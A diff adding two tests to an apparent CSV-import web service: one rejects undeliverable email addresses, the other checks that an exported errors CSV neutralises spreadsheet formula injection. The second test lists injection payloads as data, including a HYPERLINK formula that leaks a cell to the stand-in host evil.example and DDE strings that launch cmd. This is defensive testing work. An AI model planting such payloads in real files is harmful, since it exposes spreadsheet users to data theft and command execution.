@@ -4,7 +4,9 @@ ASGITransport runs a request's background tasks before returning, so when a
 POST returns here the import has run (in the real worker processes).
 """
 
+import csv
 import hashlib
+import io
 import os
 import uuid
 from collections.abc import AsyncIterator, Iterable
@@ -298,6 +300,54 @@ async def test_a_messy_file_imports_its_good_rows_and_lists_every_bad_one_in_err
     assert "longer than 100 bytes" in errors[2]
     assert errors[3].startswith("7,not-an-email,Eve,email: An email address must have an @-sign")
     assert errors[4].startswith("8,carol@example.com,Carol,2 fields where the header has 3")
+
+
+async def test_rows_with_addresses_the_service_cannot_deliver_are_rejected_with_the_reason(
+    client: httpx.AsyncClient, app: FastAPI
+) -> None:
+    rows = [
+        "jos\u00e9@example.com,Jos\u00e9",  # needs SMTPUTF8
+        "\uff41\uff44\uff41@example.com,Ada",  # fullwidth look-alike
+        "a" * 65 + "@example.com,Long",
+        "zoe@ex\u00e4mple.com,Zo\u00eb",  # an internationalised domain is fine
+    ]
+
+    response = await upload(client, csv_of(*rows))
+
+    body = (await client.get(response.headers["location"])).json()
+    assert (body["rows_imported"], body["rows_rejected"]) == (1, 3)
+    assert await emails(app) == ["zoe@ex\u00e4mple.com"]
+    reasons = [error["reason"] for error in body["first_errors"]]
+    assert "Internationalized characters before the @-sign" in reasons[0]
+    assert "Internationalized characters before the @-sign" in reasons[1]
+    assert "too long before the @-sign" in reasons[2]
+
+
+async def test_errors_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    client: httpx.AsyncClient,
+) -> None:
+    formulas = [
+        '=HYPERLINK(""https://evil.example/?""&A1)',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    rows = [f'"{cell}","{cell}"' for cell in formulas]
+
+    response = await upload(client, csv_of(*rows))
+    errors = await client.get(f"{response.headers['location']}/errors.csv")
+
+    parsed = list(csv.reader(io.StringIO(errors.text)))
+    assert len(parsed) == 1 + len(formulas)
+    for (_line, email, name, reason), cell in zip(parsed[1:], formulas, strict=True):
+        original = cell.replace('""', '"')
+        assert email == name == "'" + original  # shown as text, and recognisably the same
+        assert reason.startswith("email: ")
+    assert (await client.get(response.headers["location"])).json()["first_errors"][0][
+        "email"
+    ] == formulas[0].replace('""', '"')  # the JSON shows the value as it came
 
 
 async def test_errors_csv_streams_every_rejected_row_across_pages(
